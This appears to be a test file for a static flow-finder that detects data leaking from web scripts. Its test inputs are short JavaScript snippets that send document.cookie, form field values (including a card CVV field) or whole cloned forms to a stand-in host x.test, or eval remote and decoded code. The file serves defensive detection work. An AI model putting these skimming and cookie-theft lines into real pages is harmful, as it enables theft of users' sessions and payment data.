import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { codeOf, readCode, taintNames } from '../fixtures/read-code.ts';
import { findFieldGuards } from './field-guards.ts';
import { findFlows, traceFlows } from './flow-finder.ts';

/** The data that reaches the sinks of a script. */
function flowsIn(code: string): string[] {
  const reading = readCode(code);
  return findFlows(reading, findFieldGuards(reading))
    .filter(({ bits }) => bits !== 0)
    .map(({ sink, bits }) => `${taintNames(bits)} -> ${sink}`);
}

/** A script that sends `x` at its end. */
const sending = (code: string): string => `${code} new Image().src = '//x.test/?' + x;`;

describe('flow finder: paths to a sink', () => {
  const cookie = ['cookie wholeCookie -> image'];
  const cases: Readonly<Record<string, readonly string[]>> = {
    'const x = document.cookie;': cookie,
    'let x; x = document.cookie;': cookie,
    'const a = document.cookie; const b = a; const x = b;': cookie,
    'let x = document.cookie; x = 1;': cookie,
    'const { a: x } = { a: document.cookie };': cookie,
    'const [x] = [document.cookie];': cookie,
    'const x = {}; x.a.b = document.cookie;': cookie,
    'const x = {}; x[name] = document.cookie;': cookie,
    'const x = []; x.push(document.cookie);': cookie,
    'const x = new Map(); x.set(1, document.cookie);': cookie,
    'const f = () => document.cookie; const x = f();': cookie,
    'function f() { return document.cookie; } const x = f();': cookie,
    'function f(a) { return a; } const x = f(document.cookie);': [
      // Through the argument only a part flows; through the parameter all of it.
      'cookie wholeCookie -> image',
    ],
    'function* f() { yield document.cookie; } const x = f();': cookie,
    'let x; (() => { x = document.cookie; })();': cookie,
    'let x; function f(a) { x = a; } f(document.cookie);': cookie,
    'let x; function f(a) { x = a; } f.call(null, document.cookie);': cookie,
    'let x; function f({ a }) { x = a; } f({ a: document.cookie });': cookie,
    'let x; [document.cookie].forEach((a) => { x = a; });': cookie,
    'let x; for (const a of [document.cookie]) x = a;': cookie,
    'window.x = document.cookie;': cookie,
    'this.a = document.cookie; const x = this.a;': cookie,
    'const self = this; self.a = document.cookie; const x = self.a;': cookie,
    'class A { a = document.cookie; give() { return this.a; } } const o = new A(); const x = o.give();':
      ['cookie -> image'],
    'const o = { take() { return document.cookie; } }; const x = o.take();': cookie,
    'class A { take() { return document.cookie; } } const x = unknown.take();': ['cookie -> image'],
    'const x = await document.cookie;': cookie,
    'const x = document.cookie.split(";")[0];': ['cookie -> image'],
    'const x = document.cookie === a;': [],
    'const x = () => document.cookie;': cookie,
    'if (document.cookie) x = 1;': [],
    'a.x = document.cookie;': [],
    'this.b = document.cookie; const x = this.a;': [],
    'const a = {}; a.b = document.cookie; const x = a.c;': [],
    'const a = { b: document.cookie, c: 1 }; const x = a.c;': [],
    'const a = { b: document.cookie }; const x = a.b;': ['cookie -> image'],
    'const a = { b: document.cookie }; const x = a;': cookie,
    'const a = make({ b: document.cookie }); const x = a.c;': ['cookie -> image'],
    'const a = { b: document.cookie, give() { return this.b; } }; const x = a.give();': cookie,
    'class A { a = document.cookie; } class B { give() { return this.a; } } const x = new B().give();':
      [],
  };
  it('not through a helper that very many calls share', () => {
    const helper = 'function f(a) { return a; } f(document.cookie);';
    assert.deepEqual(flowsIn(sending(`${helper} const x = f(1);`)), cookie);
    assert.deepEqual(flowsIn(sending(`${helper} ${'f(1);'.repeat(60)} const x = f(1);`)), []);
  });

  for (const [code, flows] of Object.entries(cases)) {
    it(`${flows.join() || 'nothing'}: ${code}`, () => {
      assert.deepEqual(flowsIn(sending(code)), flows);
    });
  }
});

describe('flow finder: members of a flow', () => {
  const described = (code: string): string[] => {
    const reading = readCode(code);
    return findFlows(reading, findFieldGuards(reading)).map(
      ({ sink, target, isResponseIgnored, bits }) =>
        `${taintNames(bits)} -> ${sink} ${target}${isResponseIgnored ? ' ignored' : ''}`,
    );
  };
  const cases: Readonly<Record<string, readonly string[]>> = {
    [`fetch('/own');`]: [' -> fetch unknown'],
    [`fetch('/own?' + document.cookie).then((r) => r.json()).then(f);`]: [
      'cookie wholeCookie -> fetch own',
    ],
    [`fetch('//x.test/?' + document.cookie);`]: ['cookie wholeCookie -> fetch foreign ignored'],
    [`fetch(url + document.cookie);`]: ['cookie wholeCookie -> fetch unknown ignored'],
    [`a.style.color = document.cookie;`]: [],
    [`a.style.color = '';`]: [],
    [`a.style.background = 'url(//x.test/?' + document.cookie + ')';`]: [
      'cookie wholeCookie -> style foreign ignored',
    ],
    [`a.innerHTML = document.cookie;`]: ['cookie wholeCookie -> markup unknown'],
    [`a.innerHTML = '<img src="//x.test/?' + document.cookie + '">';`]: [
      'cookie wholeCookie -> markup foreign',
      'cookie wholeCookie -> image foreign ignored',
    ],
    [`eval(document.cookie);`]: ['cookie wholeCookie -> code unknown'],
    [`new Image().src = '//x.test/?' + document.querySelector('#a').value;`]: [
      'field -> image foreign ignored',
    ],
    [`if (/cvv/.test(e.name)) new Image().src = '//x.test/?' + document.querySelector('#a').value;`]:
      ['field cardName -> image foreign ignored'],
    [`var f = document.querySelector('form').cloneNode(true); f.action = '//x.test'; f.submit();`]:
      [' -> form unknown', 'field allFields -> form foreign ignored'],
    [`s.onmessage = (m) => eval(m.data);`]: ['remote -> code unknown'],
  };
  for (const [code, flows] of Object.entries(cases)) {
    it(`${flows.join() || 'none'}: ${code}`, () => assert.deepEqual(described(code), flows));
  }

  it('has the sources from which it can be traced', () => {
    const reading = readCode(
      `const a = document.cookie, b = 1; s.onmessage = (m) => fetch('/' + a + b + m);`,
    );
    const traced = traceFlows(reading, findFieldGuards(reading)).map(({ sources }) =>
      sources.map(({ node, bits }) => `${taintNames(bits)}: ${codeOf(reading, node)}`),
    );
    assert.deepEqual(traced, [
      [
        'cookie wholeCookie: document.cookie',
        `remote: (m) => fetch('/' + a + b + m)`,
        'cookie wholeCookie: a',
      ],
    ]);
  });
});

describe('flow finder: sinks under other names', () => {
  const cases: Readonly<Record<string, readonly string[]>> = {
    [`const a = document.createElement('a'); a.ping = '//x.test/?' + document.cookie;`]: [
      'cookie wholeCookie -> link',
    ],
    [`Function.prototype.constructor(atob(m))();`]: ['decoded -> code'],
    [`setTimeout(codes.map((c) => String.fromCharCode(c)).join(''), 9);`]: ['decoded -> code'],
    [`setTimeout(codes.map((c) => f(c)), 9);`]: [],
  };
  for (const [code, flows] of Object.entries(cases)) {
    it(`${flows.join(', ') || 'nothing'}: ${code}`, () => assert.deepEqual(flowsIn(code), flows));
  }
});
